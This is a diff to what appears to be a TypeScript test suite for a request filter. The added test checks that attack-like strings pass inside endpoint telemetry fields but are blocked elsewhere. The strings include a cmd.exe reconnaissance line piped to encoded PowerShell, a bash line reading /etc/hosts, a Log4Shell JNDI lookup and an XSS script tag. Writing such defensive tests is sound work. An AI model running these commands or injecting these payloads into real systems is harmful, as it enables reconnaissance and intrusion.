@@ -125,6 +125,20 @@ describe('what looks like an attack and tells of something', () => {
     expect(decided(json(body))).toBe('block');
   });
 
+  const line =
+    'cmd.exe /c "whoami /all & type C:\\Windows\\win.ini" | powershell -enc SQBFAFgAIAAoAE4AZQB3AA==';
+  test('passes what an agent tells of programs that ran, and the same nowhere else', () => {
+    expect(decided(json({ process: { command_line: line, parent: { command_line: line } } }))).toBe('pass');
+    expect(decided(json({ process: { args: ['bash', '-c', 'cat /etc/hosts | grep db; id'] } }))).toBe('pass');
+    expect(decided(json({ winlog: { event_data: { CommandLine: line, ScriptBlockText: line } } }))).toBe(
+      'pass',
+    );
+    expect(decided(json({ process: { name: line } }))).toBe('block');
+    expect(decided(json({ event_data: { CommandLine: line } }))).toBe('block');
+    expect(decided(json({ process: { command_line: '${jndi:ldap://x.example/a}' } }))).toBe('block');
+    expect(decided(json({ process: { command_line: '<script>alert(1)</script>' } }))).toBe('block');
+  });
+
   const picture = (text: string) =>
     post(
       'multipart/form-data; boundary=b',
